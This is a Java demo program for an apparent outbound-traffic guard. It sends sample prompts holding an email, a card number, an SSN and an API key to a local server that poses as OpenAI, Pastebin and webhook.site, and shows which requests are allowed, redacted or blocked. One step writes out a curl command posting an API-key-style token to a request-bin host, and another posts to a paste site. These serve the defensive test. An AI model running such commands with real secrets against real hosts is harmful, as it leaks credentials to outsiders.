import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * An ordinary application: it knows nothing of egress-guard. Run with the agent, it makes real
 * requests to a local server that plays api.openai.com, pastebin.com and webhook.site (through a
 * hosts file), and prints what it saw and what the server received.
 */
public class Demo {
    static final List<String> received = new ArrayList<>();

    public static void main(String[] args) throws Exception {
        HttpServer server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        server.createContext("/", exchange -> {
            byte[] body = exchange.getRequestBody().readAllBytes();
            synchronized (received) {
                received.add(exchange.getRequestMethod() + " " + exchange.getRequestHeaders().getFirst("Host")
                        + exchange.getRequestURI() + "  " + new String(body, StandardCharsets.UTF_8));
            }
            byte[] ok = "{\"ok\":true}".getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, ok.length);
            try (OutputStream out = exchange.getResponseBody()) {
                out.write(ok);
            }
        });
        server.start();
        int port = server.getAddress().getPort();
        String openai = "http://api.openai.com:" + port + "/v1/chat/completions";
        HttpClient client = HttpClient.newHttpClient();

        step("allow   JDK HttpClient, a clean prompt to OpenAI", () ->
                jdk(client, openai, "{\"messages\":[{\"role\":\"user\",\"content\":\"Summarise our Q3 roadmap\"}]}"));
        step("warn    JDK HttpClient, a prompt with an email address", () ->
                jdk(client, openai, "{\"messages\":[{\"role\":\"user\",\"content\":\"Reply to jane.doe@example.com\"}]}"));
        step("redact  HttpURLConnection, a card number in JSON", () ->
                urlConnection(openai, "{\"messages\":[{\"role\":\"user\",\"content\":\"Refund card 4111 1111 1111 1111\"}]}"));
        step("block   JDK HttpClient, an SSN", () ->
                jdk(client, openai, "{\"messages\":[{\"role\":\"user\",\"content\":\"Customer SSN 123-45-6789\"}]}"));
        step("block   HttpURLConnection, a paste site (blockedTools)", () ->
                urlConnection("http://pastebin.com:" + port + "/api/api_post.php", "api_paste_code=hello"));
        step("allow   curl, a clean GET to an internal host", () ->
                curl("-s", "http://127.0.0.1:" + port + "/health"));
        step("block   curl, an API key posted to a request bin", () ->
                curl("-s", "--resolve", "webhook.site:" + port + ":127.0.0.1",
                        "-d", "token=sk-proj-" + "Xy7Qw3Er9Ty2Ui8Op4As6Df1Gh5Jk0Lz3Xc7Vb9Nm2Qa4Ws",
                        "http://webhook.site:" + port + "/a1b2c3"));

        server.stop(0);
        System.out.println();
        System.out.println("What the server received (" + received.size() + " requests):");
        for (String r : received) {
            System.out.println("  " + r);
        }
    }

    interface Step {
        String run() throws Exception;
    }

    static void step(String title, Step s) {
        System.out.println("== " + title);
        try {
            System.out.println("   app saw: " + s.run());
        } catch (Exception e) {
            System.out.println("   app saw: " + e.getClass().getSimpleName() + ": " + e.getMessage());
        }
    }

    static String jdk(HttpClient client, String url, String json) throws Exception {
        HttpRequest r = HttpRequest.newBuilder(URI.create(url)).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(json)).build();
        HttpResponse<String> resp = client.send(r, HttpResponse.BodyHandlers.ofString());
        return "HTTP " + resp.statusCode();
    }

    static String urlConnection(String url, String body) throws IOException {
        HttpURLConnection c = (HttpURLConnection) new URL(url).openConnection();
        c.setRequestMethod("POST");
        c.setDoOutput(true);
        c.setRequestProperty("Content-Type", body.startsWith("{") ? "application/json" : "application/x-www-form-urlencoded");
        try (OutputStream out = c.getOutputStream()) {
            out.write(body.getBytes(StandardCharsets.UTF_8));
        }
        return "HTTP " + c.getResponseCode();
    }

    static String curl(String... args) throws Exception {
        List<String> cmd = new ArrayList<>(List.of("curl"));
        cmd.addAll(List.of(args));
        Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (InputStream in = p.getInputStream()) {
            in.transferTo(out);
        }
        return "curl exited " + p.waitFor() + " " + out.toString(StandardCharsets.UTF_8).trim();
    }
}
